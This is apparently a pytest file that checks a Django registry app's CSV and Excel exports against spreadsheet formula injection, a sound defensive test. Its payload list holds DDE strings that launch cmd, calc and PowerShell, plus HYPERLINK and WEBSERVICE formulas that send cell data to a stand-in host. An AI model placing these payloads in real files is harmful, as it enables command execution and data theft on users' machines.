"""Nothing that leaves us starts a formula, whatever somebody once typed into a cell."""

import csv
import os
import shutil
import subprocess
from datetime import date
from io import StringIO

import openpyxl
import pytest

from registry.management.commands import export_table
from registry.slots import ExportTable
from registry.workbook import safe
from registry.workbook.annotate import annotate
from registry.workbook.marks import Note
from registry.workbook.schema import Column, Kind, Schema

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\x00=", " =", "'=")
CALLS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1,"点这里")',
    'WEBSERVICE("http://example.invalid/")',
    "SUM(A1:A9)*cmd|' /C powershell'!A0",
    'DDE("cmd";"/C calc";"x")',
)
PAYLOADS = [start + call for start in STARTS for call in CALLS]
DAY = date(2020, 8, 1)
TABLE = ExportTable(
    name="test",
    columns=("number", "words", "amount"),
    rows=lambda day: (
        "SELECT i, w, -1.50 FROM unnest(%(words)s::text[]) WITH ORDINALITY AS u(w, i)",
        {"words": [payload.replace("\x00", "") for payload in PAYLOADS]},
    ),
    money=frozenset({"amount"}),
)
SCHEMA = Schema(
    kind="people",
    title="人员",
    columns=(Column("name", "姓名", Kind.TEXT), Column("base", "基数", Kind.MONEY)),
)


def formulas(path):
    """Return the cells of every sheet that a spreadsheet would calculate."""
    book = openpyxl.load_workbook(path)
    return [
        cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def marked(tmp_path):
    """Return a user's workbook of payloads with every cell wrong, given back."""
    source = tmp_path / "own.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "基数"])
    for number, payload in enumerate(PAYLOADS, start=2):
        for place in (1, 2):
            cell = sheet.cell(number, place, payload.replace("\x00", ""))
            cell.data_type = "s" if number % 2 else cell.data_type
    book.save(source)
    notes = [
        Note(row, "基数", "not_a_number", payload, "=1+1", "@SUM(1)")
        for row, payload in enumerate(PAYLOADS, start=2)
    ]
    target = tmp_path / "marked.xlsx"
    annotate(source, schema=SCHEMA, problems=notes, import_id=1, target=target)
    return target


@pytest.mark.django_db
def test_a_csv_shields_every_text_that_would_open_a_formula():
    file = StringIO(newline="")

    export_table.write_csv(TABLE, DAY, file)

    rows = list(csv.reader(StringIO(file.getvalue().removeprefix("\ufeff"), newline="")))[1:]
    assert len(rows) == len(PAYLOADS)
    assert not [row for row in rows if safe.opens_formula(row[1])]
    assert {row[2] for row in rows} == {"-1.50"}  # an amount below zero stays a number


@pytest.mark.django_db
def test_a_workbook_holds_texts_and_numbers_only(tmp_path):
    target = tmp_path / "out.xlsx"

    assert export_table.write_xlsx(TABLE, DAY, target) == len(PAYLOADS)

    assert formulas(target) == []
    amounts = {
        row[2]
        for row in openpyxl.load_workbook(target).active.iter_rows(min_row=2, values_only=True)
    }
    assert amounts == {-1.5}


def test_a_users_own_workbook_comes_back_without_one(tmp_path):
    assert formulas(marked(tmp_path)) == []


@pytest.mark.parametrize("text", ["-1.50", "0", "12", "-3"])
def test_a_plain_number_is_no_formula(text):
    assert not safe.opens_formula(text)


if os.environ.get("SOAK"):

    @pytest.mark.django_db
    def test_libreoffice_finds_no_formula_in_what_leaves_us(tmp_path):
        assert shutil.which("soffice"), "make soak installs LibreOffice where it may"
        paths = [tmp_path / "table.csv", tmp_path / "out.xlsx", marked(tmp_path)]
        with paths[0].open("w", encoding="utf-8", newline="") as file:
            export_table.write_csv(TABLE, DAY, file)
        export_table.write_xlsx(TABLE, DAY, paths[1])
        saved = tmp_path / "saved"

        subprocess.run(
            ["soffice", "--headless", "--convert-to", "xlsx", "--outdir", saved, *paths],
            check=True,
            capture_output=True,
            env={**os.environ, "HOME": str(tmp_path)},
            timeout=300,
        )

        found = {path.name: formulas(path) for path in saved.iterdir()}
        assert found == {"table.xlsx": [], "out.xlsx": [], "marked.xlsx": []}
